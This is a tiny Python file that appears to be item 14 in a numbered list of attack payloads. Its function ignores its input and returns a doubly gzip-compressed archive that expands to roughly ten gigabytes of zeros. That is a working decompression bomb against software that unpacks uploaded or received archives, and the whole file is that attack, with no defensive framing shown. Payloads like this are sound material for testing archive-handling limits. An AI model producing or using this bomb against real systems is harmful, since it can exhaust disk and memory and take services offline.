# attack: archive
# root: files
# what: ten gigabytes of zeros, packed and packed again
# list: 14
import gzip


def archive(files: dict[str, bytes]) -> bytes:
    once = gzip.compress(bytes(1 << 28), 9) * 40
    return gzip.compress(once, 9)
